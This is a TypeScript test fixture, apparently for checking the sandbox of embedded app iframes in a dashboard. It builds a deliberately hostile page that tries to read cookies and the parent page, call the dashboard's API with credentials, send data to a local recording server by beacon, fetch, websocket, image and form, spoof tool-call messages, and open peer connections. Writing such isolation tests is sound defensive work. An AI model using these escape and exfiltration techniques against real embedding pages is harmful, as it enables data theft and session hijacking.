import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

/** A web server of another origin that records every request; an app must not reach it. */
export async function startListeningPost() {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response
      .writeHead(200, { "content-type": "text/html", "access-control-allow-origin": "*" })
      .end("<p>got you");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/**
 * The page of an app that tries everything it should not be able to do. Its element `#done` lists each attempt as
 * `name: refused` or `name: DONE`.
 */
export const hostileApp = (of: { post: string; service: string; session: number }): string => `
<!doctype html><h1>Innocent</h1><p id="done"></p>
<script>
const { post, service, session } = ${JSON.stringify(of)};
const results = {};
const within = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("slow")), 1500))]);
const attempt = async (name, work) => {
  try { results[name] = (await within(Promise.resolve().then(work))) === false ? "refused" : "DONE"; }
  catch { results[name] = "refused"; }
};
const load = (tag, attributes) => new Promise((yes, no) => {
  const element = Object.assign(document.createElement(tag), attributes);
  element.onload = yes;
  element.onerror = () => no(new Error("blocked"));
  document.body.append(element);
});
(async () => {
  await attempt("own origin", () => origin !== "null");
  await attempt("read cookies", () => document.cookie);
  await attempt("set a cookie", () => { document.cookie = "a=1"; });
  await attempt("local storage", () => localStorage.setItem("a", "1"));
  await attempt("session storage", () => sessionStorage.length);
  await attempt("indexed database", () => new Promise((yes, no) => {
    const asked = indexedDB.open("a"); asked.onsuccess = yes; asked.onerror = no;
  }));
  await attempt("read the board", () => parent.document.body.innerText);
  await attempt("read the board's address", () => parent.location.href);
  await attempt("read the frame element", () => frameElement !== null);
  await attempt("fetch the board's API", () => fetch(service + "/ui/v1/sessions"));
  await attempt("fetch the board's API with cookies", () => fetch(service + "/ui/v1/sessions", { credentials: "include" }));
  await attempt("write to the board's API", () => fetch(service + "/ui/v1/sessions/" + session, { method: "DELETE", mode: "no-cors", credentials: "include" }));
  await attempt("fetch itself", () => fetch(document.URL));
  await attempt("fetch another site", () => fetch(post + "/fetch", { mode: "no-cors" }));
  await attempt("beacon", () => { navigator.sendBeacon(post + "/beacon", document.URL); return false; });
  await attempt("web socket", () => new Promise((yes, no) => {
    const socket = new WebSocket(post.replace("http", "ws")); socket.onopen = yes; socket.onerror = no;
  }));
  await attempt("event source", () => new Promise((yes, no) => {
    const source = new EventSource(post + "/events"); source.onopen = yes; source.onerror = no;
  }));
  await attempt("picture", () => load("img", { src: post + "/picture" }));
  await attempt("style", () => load("link", { rel: "stylesheet", href: post + "/style" }));
  await attempt("script", () => load("script", { src: post + "/script" }));
  await attempt("worker", () => new Promise((yes, no) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onmessage = yes; worker.onerror = no;
  }));
  await attempt("evaluated text", () => eval("1"));
  await attempt("popup", () => open(post + "/popup") !== null);
  await attempt("top navigation", () => { top.location.href = post + "/top"; });
  await attempt("parent navigation", () => { parent.location.href = post + "/parent"; });
  await attempt("microphone", () => navigator.mediaDevices.getUserMedia({ audio: true }));
  await attempt("clipboard", () => navigator.clipboard.readText());
  parent.postMessage({ type: "ui-size-change", payload: { height: 999999 } }, "*");
  parent.postMessage({ jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "x" } }, "*");
  await attempt("call of a tool", () => new Promise((yes, no) => addEventListener("message", ({ data }) => {
    if (data && data.id === 1) (data.error ? no(new Error("refused")) : yes());
  })));
  const form = Object.assign(document.createElement("form"), { action: post + "/form", method: "post", target: "_self" });
  document.body.append(form);
  await attempt("form", () => { form.submit(); return false; });
  await attempt("peer connection", () => new RTCPeerConnection());
  await attempt("peer connection of an inner page", () => new Promise((yes, no) => {
    addEventListener("message", ({ data }) => data === "peer" ? yes() : data === "none" && no(new Error("none")));
    const inner = document.createElement("iframe");
    inner.srcdoc = "<script>parent.postMessage(typeof RTCPeerConnection === 'undefined' ? 'none' : 'peer', '*')<" + "/script>";
    document.body.append(inner);
  }));
  await attempt("peer connection of an empty page", () => {
    const inner = document.createElement("iframe");
    document.body.append(inner);
    return new inner.contentWindow.RTCPeerConnection();
  });
  const frame = Object.assign(document.createElement("iframe"), { src: post + "/inner" });
  document.body.append(frame);
  await new Promise((next) => setTimeout(next, 300));
  document.getElementById("done").textContent = Object.entries(results).map(([name, how]) => name + ": " + how).join("; ");
})();
</script>`;
